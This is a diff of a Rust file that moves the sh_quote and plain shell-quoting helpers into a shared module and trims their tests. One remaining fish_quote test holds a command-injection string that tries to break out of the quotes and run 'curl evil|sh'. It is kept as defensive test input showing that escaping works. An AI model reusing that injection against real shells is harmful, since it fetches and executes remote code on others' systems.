@@ -8,6 +8,8 @@
 
 use std::fmt::Write as _;
 
+use crate::shell::{plain, sh_quote};
+
 /// What a variable is set to.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
 pub enum Value {
@@ -353,15 +355,6 @@ fn host_port(url: &str) -> (&str, &str) {
     }
 }
 
-/// Single-quotes a value for sh (inside '…' nothing is special but ').
-fn sh_quote(v: &str) -> String {
-    if plain(v) {
-        v.to_string()
-    } else {
-        format!("'{}'", v.replace('\'', r"'\''"))
-    }
-}
-
 /// Single-quotes a value for fish, where \\ and \' are escapes inside '…'.
 fn fish_quote(v: &str) -> String {
     if plain(v) {
@@ -369,13 +362,6 @@ fn fish_quote(v: &str) -> String {
     } else {
         format!("'{}'", v.replace('\\', r"\\").replace('\'', r"\'"))
     }
-}
-
-/// Nothing a shell would read as special.
-fn plain(v: &str) -> bool {
-    !v.is_empty()
-        && v.bytes()
-            .all(|b| b.is_ascii_alphanumeric() || b"/._-:=+,@".contains(&b))
 }
 
 /// A comment line's text: control characters (a newline would end the
@@ -478,8 +464,6 @@ mod tests {
 
     #[test]
     fn quoting_survives_the_shell() {
-        assert_eq!(sh_quote("/a b/it's"), r"'/a b/it'\''s'");
-        assert_eq!(sh_quote("/plain/path.pem"), "/plain/path.pem");
         assert_eq!(fish_quote(r"x\';curl evil|sh;#"), r"'x\\\';curl evil|sh;#'");
         assert_eq!(fish_quote(r"a\"), r"'a\\'");
     }
